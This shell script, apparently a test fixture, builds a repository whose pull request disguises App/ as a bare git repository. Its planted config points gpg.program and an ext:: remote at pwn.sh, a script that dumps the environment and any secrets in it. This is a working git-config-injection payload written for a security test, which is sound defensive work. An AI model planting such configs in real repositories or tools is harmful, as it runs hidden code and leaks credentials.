#!/bin/sh
# Builds, in the folder $1, a repository whose pull request commits plain files that make its
# folder App/ look like a bare git repository, with a config that runs ./pwn.sh when git shows a
# commit's signature (log.showSignature + gpg.program). pwn.sh writes the environment it got to
# $1/../pwned (outside the checkout), so a test sees whether it ran and with which secrets.
# Usage: fake-bare-repository.sh FOLDER   (FOLDER must not exist)
set -eu
root="$1"
mkdir -p "$root"
cd "$root"
git init -q .
git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m base

# The model: a Core Data bundle with two versions, in App/.
mkdir -p "App/Model.xcdatamodeld/Model.xcdatamodel" "App/Model.xcdatamodeld/Model 2.xcdatamodel"
for version in "Model" "Model 2"; do
  cat > "App/Model.xcdatamodeld/$version.xcdatamodel/contents" <<'XML'
<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<model type="com.apple.IDECoreDataModeler.DataModel" documentVersion="1.0" lastSavedToolsVersion="1" systemVersion="1" minimumToolsVersion="Automatic" sourceLanguage="Swift" usedWithCloudKit="YES" userDefinedModelVersionIdentifier="">
    <entity name="Note" representedClassName="Note" syncable="YES" codeGenerationType="class">
        <attribute name="title" optional="YES" attributeType="String"/>
    </entity>
</model>
XML
done
cat > "App/Model.xcdatamodeld/.xccurrentversion" <<'XML'
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
	<key>_XCCurrentVersionName</key>
	<string>Model 2.xcdatamodel</string>
</dict>
</plist>
XML
printf 'coreData: App/Model.xcdatamodeld\n' > ckschema.yaml

# The fake bare repository: a real one made elsewhere, its files copied into App/ as plain files.
fake="$(mktemp -d)"
git init -q --bare "$fake/repo.git"
# Its one commit adds the bundle's first version, so `git log -- Model.xcdatamodeld` shows it.
blob=$(printf 'x' | git --git-dir="$fake/repo.git" hash-object -w --stdin)
version=$(printf '100644 blob %s\tcontents\n' "$blob" | git --git-dir="$fake/repo.git" mktree)
bundle=$(printf '040000 tree %s\tModel.xcdatamodel\n' "$version" | git --git-dir="$fake/repo.git" mktree)
tree=$(printf '040000 tree %s\tModel.xcdatamodeld\n' "$bundle" | git --git-dir="$fake/repo.git" mktree)
# A commit with a (fake) signature header, so `git log` asks gpg.program to verify it.
commit=$(printf 'tree %s\nauthor a <a@example.com> 1 +0000\ncommitter a <a@example.com> 1 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n =abcd\n -----END PGP SIGNATURE-----\n\nsigned\n' "$tree" \
  | git --git-dir="$fake/repo.git" hash-object -t commit -w --stdin --literally)
git --git-dir="$fake/repo.git" update-ref refs/heads/main "$commit"
git --git-dir="$fake/repo.git" symbolic-ref HEAD refs/heads/main
cp -R "$fake/repo.git/objects" "$fake/repo.git/refs" "$fake/repo.git/HEAD" App/
rm -rf "$fake"
cat > App/config <<'CFG'
[core]
	repositoryformatversion = 0
	bare = true
[log]
	showSignature = true
[gpg]
	program = ./pwn.sh
[protocol "ext"]
	allow = always
[remote "origin"]
	url = ext::sh -c ./pwn.sh% >&2
	fetch = +refs/heads/*:refs/remotes/origin/*
CFG
cat > App/pwn.sh <<'SH'
#!/bin/sh
env > "$(dirname "$0")/../../pwned"
SH
chmod +x App/pwn.sh
git add -A
git -c user.name=t -c user.email=t@example.com commit -q -m "the pull request"
